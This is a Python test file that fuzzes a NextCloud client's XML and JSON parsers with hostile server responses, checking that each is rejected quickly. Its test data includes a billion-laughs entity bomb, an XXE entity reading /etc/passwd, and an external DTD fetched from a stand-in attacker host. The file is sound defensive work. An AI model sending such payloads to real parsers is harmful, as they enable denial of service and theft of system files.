"""Malformed/hostile NextCloud response fuzzing (VERDICT r3 weak #5).

The reference treats the NextCloud client as hostile-input-adjacent (its
retry wrapper, ``app/services/nextcloud_service.py:17-83``); here the XML
and OCS-JSON parse paths get the same adversarial treatment the multipart
parser already has: every body below must produce a clean ``ValueError``
(or a clean empty result) FAST — never a hang, a memory blowup, or an
exception class sync's error isolation doesn't catch.
"""

import asyncio
import time

import httpx
import pytest

from ics_tpu.sync import nextcloud_client as nc_mod
from ics_tpu.sync.nextcloud_client import NextCloudClient, _safe_xml_fromstring


def make_client(handler) -> NextCloudClient:
    """Client whose transport answers every request via ``handler``."""
    return NextCloudClient(
        base_url="http://fuzz.test",
        username="tester",
        password="pw",
        user_path="/files/tester",
        max_retries=1,
        retry_delay=0.0,
        transport=httpx.MockTransport(handler),
    )


ENTITY_BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE d:multistatus [
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<d:multistatus xmlns:d="DAV:"><d:response><d:href>&xxe;</d:href>
</d:response></d:multistatus>"""

DOCTYPE_ONLY = """<?xml version="1.0"?>
<!DOCTYPE d:multistatus SYSTEM "http://evil.test/steal.dtd">
<d:multistatus xmlns:d="DAV:"></d:multistatus>"""

TRUNCATED = """<?xml version="1.0"?>
<d:multistatus xmlns:d="DAV:"><d:response><d:href>/x/a.jpg</d:hr"""

GARBAGE = "\x00\xff\xfenot xml at all { ] <<<>>>"

EMPTY = ""

WRONG_NAMESPACE = """<?xml version="1.0"?>
<multistatus xmlns="urn:not-dav"><response><href>/x/a.jpg</href>
</response></multistatus>"""

HUGE_ATTRIBUTE = (
    '<?xml version="1.0"?><d:multistatus xmlns:d="DAV:" junk="'
    + "A" * (1024 * 1024)
    + '"></d:multistatus>'
)

DEEP_NESTING = (
    '<?xml version="1.0"?><d:multistatus xmlns:d="DAV:">'
    + "<x>" * 5000 + "</x>" * 5000
    + "</d:multistatus>"
)

MISSING_PIECES = """<?xml version="1.0"?>
<d:multistatus xmlns:d="DAV:">
  <d:response></d:response>
  <d:response><d:href></d:href></d:response>
  <d:response><d:href>/remote.php/dav/files/tester/f/a.jpg</d:href>
  </d:response>
</d:multistatus>"""


class TestPropfindParseFuzz:
    @pytest.mark.parametrize(
        "body",
        [ENTITY_BOMB, XXE, DOCTYPE_ONLY, TRUNCATED, GARBAGE, EMPTY],
        ids=["entity-bomb", "xxe", "doctype", "truncated", "garbage",
             "empty"],
    )
    def test_rejected_bodies_raise_valueerror_fast(self, body):
        client = make_client(lambda r: httpx.Response(207))
        t0 = time.perf_counter()
        with pytest.raises(ValueError):
            client._parse_propfind(body)
        # an entity bomb that slipped past rejection would take seconds
        # and GBs; rejection must be near-instant
        assert time.perf_counter() - t0 < 1.0

    @pytest.mark.parametrize(
        "body",
        [WRONG_NAMESPACE, DEEP_NESTING, MISSING_PIECES],
        ids=["wrong-namespace", "deep-nesting", "missing-pieces"],
    )
    def test_odd_but_wellformed_bodies_parse_clean(self, body):
        """Well-formed XML that simply isn't a useful multistatus yields
        an empty listing, not an exception (the sync engine treats an
        empty folder and a useless response the same way)."""
        client = make_client(lambda r: httpx.Response(207))
        assert client._parse_propfind(body) == []

    def test_huge_attribute_completes_quickly(self):
        client = make_client(lambda r: httpx.Response(207))
        t0 = time.perf_counter()
        client._parse_propfind(HUGE_ATTRIBUTE)
        assert time.perf_counter() - t0 < 2.0

    def test_oversized_body_rejected(self, monkeypatch):
        monkeypatch.setattr(nc_mod, "MAX_XML_BYTES", 1024)
        with pytest.raises(ValueError, match="limite"):
            _safe_xml_fromstring("<a>" + "x" * 2048 + "</a>")

    def test_doctype_case_insensitive(self):
        with pytest.raises(ValueError):
            _safe_xml_fromstring(
                '<?xml version="1.0"?><!doCtYpE a []><a/>'
            )


class TestActivityJsonFuzz:
    def _client_returning(self, *, content=b"", status=200,
                          json_body=None) -> NextCloudClient:
        def handler(request):
            if json_body is not None:
                return httpx.Response(status, json=json_body)
            return httpx.Response(
                status, content=content,
                headers={"content-type": "application/json"},
            )

        return make_client(handler)

    @pytest.mark.anyio
    async def test_garbage_json_raises_valueerror(self):
        client = self._client_returning(content=b"{not json::")
        try:
            with pytest.raises(ValueError):
                await client.fetch_activities(since=0)
        finally:
            await client.aclose()

    @pytest.mark.anyio
    async def test_top_level_list_yields_empty(self):
        client = self._client_returning(json_body=[1, 2, 3])
        try:
            assert await client.fetch_activities(since=0) == []
        finally:
            await client.aclose()

    @pytest.mark.anyio
    async def test_ocs_data_wrong_type_raises(self):
        client = self._client_returning(
            json_body={"ocs": {"data": {"not": "a list"}}}
        )
        try:
            with pytest.raises(ValueError, match="OCS"):
                await client.fetch_activities(since=0)
        finally:
            await client.aclose()

    @pytest.mark.anyio
    async def test_oversized_json_rejected(self, monkeypatch):
        monkeypatch.setattr(nc_mod, "MAX_JSON_BYTES", 1024)
        client = self._client_returning(
            content=b'{"ocs": {"data": ["' + b"x" * 4096 + b'"]}}'
        )
        try:
            with pytest.raises(ValueError, match="limite"):
                await client.fetch_activities(since=0)
        finally:
            await client.aclose()

    @pytest.mark.anyio
    async def test_missing_envelope_yields_empty(self):
        client = self._client_returning(json_body={"unrelated": True})
        try:
            assert await client.fetch_activities(since=0) == []
        finally:
            await client.aclose()


class TestSyncSurvivesPoisonedServer:
    @pytest.mark.anyio
    async def test_webdav_scan_with_entity_bomb_fails_clean(self, tmp_path):
        """End-to-end posture check: a compromised server answering
        PROPFIND with an entity bomb must surface as a normal sync
        failure (clean exception for the orchestrator's error stats),
        within milliseconds — never a CPU/RAM pin of the host."""
        from ics_tpu.db.engine import Database
        from ics_tpu.sync.webdav_sync import WebDAVSync

        def handler(request):
            return httpx.Response(
                207, content=ENTITY_BOMB.encode(),
                headers={"content-type": "application/xml"},
            )

        client = make_client(handler)
        db = Database(f"sqlite:///{tmp_path}/fuzz.db")
        db.create_all()
        sync = WebDAVSync(client, db)
        t0 = time.perf_counter()
        try:
            with pytest.raises(ValueError):
                await asyncio.wait_for(sync.sync_all_folders(), timeout=10)
        finally:
            await client.aclose()
        assert time.perf_counter() - t0 < 5.0
